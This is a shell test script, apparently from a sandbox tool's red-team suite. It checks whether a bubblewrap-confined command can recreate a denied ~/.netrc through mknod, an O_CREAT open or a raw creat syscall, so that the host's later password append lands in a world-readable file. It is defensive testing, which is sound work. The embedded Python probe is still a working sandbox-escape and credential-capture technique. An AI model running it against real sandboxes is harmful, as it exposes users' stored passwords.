#!/bin/bash
# Escape class H1 (linux-bwrap), red team on d438bd4's judge_create: it
# judges symlink, symlinkat, mkdir and mkdirat at a denied name, not
# mknod and mknodat. After the host's `rm ~/.netrc` (denyRead ~/.netrc,
# allowWrite ~) the command, spinning on mknod(~/.netrc, S_IFREG|0666)
# under umask 0, makes the file the host's next `echo ... >> ~/.netrc`
# appends its password to: the host's secret ends in a world-readable
# file of the command's making that stays after the run. A write-only
# O_CREAT open at the name did the same (judge_open judged read opens
# only; the probe's first tries were reported as denied, a later one
# made the file), and so does creat(2), which glibc never calls but a
# command can (x86_64's table has it): the second and third runs.
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1
S=$(fsjson s '{"denyRead":["~/.netrc"],"allowWrite":[".","~"],"denyWrite":[]}')
cat > "$WORK/probe.py" <<'PYEOF'
import os, sys, time
p = sys.argv[1]
how = sys.argv[2]
n = os.path.join(os.environ["HOME"], ".netrc")
os.umask(0)
res = open(p + "/res", "a")
open(p + "/ready", "w").close()
made, err = False, None
end, look = time.time() + 10, 0
while not made and time.time() < end:
    # until the host has appended (its append made the file: the name is
    # taken); looked for every 50 ms, so as not to slow the spin
    if time.time() >= look:
        if os.path.exists(p + "/written"):
            break
        look = time.time() + 0.05
    try:
        if how == "mknod":
            os.mknod(n, 0o100666)
        elif how == "creat":
            # no O_EXCL here: on the covered name creat opens the cover,
            # so it is tried only once the name is gone
            if os.path.lexists(n):
                time.sleep(0.001)
                continue
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.syscall(85, n.encode(), 0o666)  # SYS_creat on x86_64
            if fd < 0:
                raise OSError(ctypes.get_errno(), "creat")
            os.close(fd)
        else:
            os.close(os.open(n, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
        made = True
    except OSError as e:
        err = e
res.write("made\n" if made else "not-made %s\n" % err)
PYEOF
hows="mknod open"
if [ "$(uname -m)" = x86_64 ]; then
	hows="$hows creat"
else
	diag "creat(2) is not tried: the probe calls it by its x86_64 number, this machine is $(uname -m)"
fi
for how in $hows; do
	rm -f "$HOME/.netrc" "$P/ready" "$P/res" "$P/written"
	echo "machine old password old" > "$HOME/.netrc"
	chmod 600 "$HOME/.netrc"
	srt__bg -s "$S" -c "$PY $WORK/probe.py $P $how"
	pid=$!
	wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
	sleep 0.3
	rm -f "$HOME/.netrc"
	sleep 0.3
	echo "machine example.com password $CANARY" >> "$HOME/.netrc"
	touch "$P/written"
	end_bg "$pid"
	diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)" "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-300)"
	diag "host ~/.netrc after the run: $(ls -l "$HOME/.netrc" 2>&1)"
	attempt H1 "$how at the removed denied ~/.netrc: the host's password is not in a world-readable file of the command's making" \
		sh -c '[ "$(stat -c %a "$1")" != 666 ]' _ "$HOME/.netrc"
done
echo "1..$_tap_n"
